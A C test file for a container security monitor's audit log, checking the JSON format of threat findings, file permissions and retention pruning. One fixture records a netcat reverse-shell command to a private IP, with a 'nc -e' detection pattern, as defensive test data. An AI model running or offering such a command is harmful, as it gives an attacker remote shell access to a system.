/* SPDX-License-Identifier: MIT */
/* The audit log: the original's schema, one line per finding, 0600, retention. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "monitor/audit.h"
#include "tap.h"
#include "util/buf.h"
#include "util/error.h"
#include "util/json.h"
#include "util/path.h"

static char home[] = "/tmp/coi-test-audit-XXXXXX";

static void test_schema(void)
{
	struct threat t = {.level = THREAT_CRITICAL,
	                   .category = "process",
	                   .title = "Reverse shell detected",
	                   .description = "d",
	                   .rule = "revshell-netcat",
	                   .action = ACTION_KILLED,
	                   .kind = EVIDENCE_PROCESS};
	_cleanup_free_ char *s = NULL;
	_cleanup_json_ json_t *j = NULL;
	struct coi_error err = {0};

	threat_init(&t);
	t.ev.process.pid = 42;
	t.ev.process.command = "nc -e /bin/sh 10.0.0.1 4444";
	t.ev.process.user = "1000";
	t.ev.process.pattern = "nc -e";
	t.ev.process.indicators[0] = "netcat runs a program";
	CHECK(threat_to_json(&t, &s, &err) == 0);
	CHECK(!strchr(s, '\n'));
	CHECK(json_parse(s, strlen(s), &j, &err) == 0);
	CHECK(strlen(json_get_str(j, "id")) == 36 && json_get_str(j, "id")[14] == '4');
	CHECK(strlen(json_get_str(j, "timestamp")) == 30);
	CHECK(json_get_str(j, "timestamp")[29] == 'Z');
	CHECK_STREQ(json_get_str(j, "level"), "critical");
	CHECK_STREQ(json_get_str(j, "category"), "process");
	CHECK_STREQ(json_get_str(j, "title"), "Reverse shell detected");
	CHECK_STREQ(json_get_str(j, "action"), "killed");
	CHECK(json_object_size(json_get_obj(j, "evidence")) == 1);
	CHECK(json_get_int(json_get_path(j, "evidence.process"), "pid", 0) == 42);
	CHECK_STREQ(json_get_str(json_get_path(j, "evidence.process"), "pattern"), "nc -e");
	CHECK(json_array_size(json_get_arr(json_get_path(j, "evidence.process"), "indicators")) ==
	      1);
}

static void test_evidence_kinds(void)
{
	struct threat t = {.level = THREAT_HIGH, .category = "network", .title = "x"};
	struct coi_error err = {0};
	const char *keys[] = {"network", "filesystem", "file_write", "process_count", "disk_space"};
	enum evidence_kind kinds[] = {EVIDENCE_NETWORK, EVIDENCE_FILESYSTEM, EVIDENCE_FILE_WRITE,
	                              EVIDENCE_PROCESS_COUNT, EVIDENCE_DISK_SPACE};

	threat_init(&t);
	t.ev.network.remote_addr = "192.168.1.1:80";
	for (size_t i = 0; i < ELEMENTSOF(kinds); i++) {
		_cleanup_free_ char *s = NULL;
		_cleanup_json_ json_t *j = NULL;

		t.kind = kinds[i];
		if (kinds[i] == EVIDENCE_DISK_SPACE)
			t.ev.disk =
			        (typeof(t.ev.disk)){.path = "/tmp", .used_mb = 9, .total_mb = 10};
		CHECK(threat_to_json(&t, &s, &err) == 0);
		CHECK(json_parse(s, strlen(s), &j, &err) == 0);
		CHECK(json_get_obj(json_get_obj(j, "evidence"), keys[i]) != NULL);
	}
}

static void test_write_and_retention(void)
{
	_cleanup_(freep) char *path = NULL;
	_cleanup_buf_ struct buf b = BUF_INIT(1 << 20);
	struct coi_error err = {0};
	struct audit *a = NULL;
	struct threat t = {.level = THREAT_WARNING, .category = "environment", .title = "t"};
	struct stat st;
	int lines = 0;

	CHECK(audit_path("../x", &path, &err) == -EINVAL);
	CHECK(audit_open("coi-t-1", 30, &a, &err) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, &err) == 0);
	t.time.tv_sec -= 40 * 86400; /* an old line */
	CHECK(audit_write(a, &t, &err) == 0);
	threat_init(&t);
	CHECK(audit_write(a, &t, &err) == 0);
	a = audit_close(a);
	CHECK(audit_path("coi-t-1", &path, &err) == 0);
	CHECK(stat(path, &st) == 0 && (st.st_mode & 0777) == 0600);
	CHECK(read_file(path, &b, &err) == 0);
	for (size_t i = 0; i < b.len; i++)
		lines += b.data[i] == '\n';
	CHECK(lines == 3);
	/* Reopening prunes the old line. */
	CHECK(audit_open("coi-t-1", 30, &a, &err) == 0);
	a = audit_close(a);
	buf_reset(&b);
	CHECK(read_file(path, &b, &err) == 0);
	lines = 0;
	for (size_t i = 0; i < b.len; i++)
		lines += b.data[i] == '\n';
	CHECK(lines == 2);
}

/* Retention covers the logs of containers long gone, not only the one being opened. */
static void test_retention_dir(void)
{
	_cleanup_(freep) char *path = NULL, *old = NULL, *fresh = NULL, *other = NULL;
	struct timespec ts[2] = {{.tv_sec = time(NULL) - 40 * 86400}, {0}};
	struct coi_error err = {0};
	struct audit *a = NULL;

	ts[1] = ts[0];
	CHECK(audit_path("coi-t-old", &old, &err) == 0);
	CHECK(audit_path("coi-t-fresh", &fresh, &err) == 0);
	CHECK(asprintf(&other, "%s/audit/notes.txt", home) > 0);
	CHECK(write_file_atomic(old, "{}\n", 3, 0600, &err) == 0);
	CHECK(write_file_atomic(fresh, "{}\n", 3, 0600, &err) == 0);
	CHECK(write_file_atomic(other, "x", 1, 0600, &err) == 0);
	CHECK(utimensat(AT_FDCWD, old, ts, 0) == 0);
	CHECK(utimensat(AT_FDCWD, other, ts, 0) == 0);
	CHECK(audit_open("coi-t-2", 0, &a, &err) == 0); /* 0: keep all */
	a = audit_close(a);
	CHECK(access(old, F_OK) == 0);
	CHECK(audit_open("coi-t-2", 30, &a, &err) == 0);
	a = audit_close(a);
	CHECK(access(old, F_OK) < 0 && errno == ENOENT);
	CHECK(access(fresh, F_OK) == 0);
	CHECK(access(other, F_OK) == 0); /* only audit logs */
	CHECK(audit_path("coi-t-2", &path, &err) == 0 && access(path, F_OK) == 0);
	CHECK(audit_prune_dir("/nonexistent-coi-t", 0, &err) == 0);
}

int main(void)
{
	if (!mkdtemp(home))
		return 1;
	setenv("COI_HOME", home, 1);
	RUN(test_schema);
	RUN(test_evidence_kinds);
	RUN(test_write_and_retention);
	RUN(test_retention_dir);
	{
		char cmd[128];
		snprintf(cmd, sizeof(cmd), "rm -rf %s", home);
		if (system(cmd) != 0)
			printf("# cleanup failed\n");
	}
	return tap_done();
}
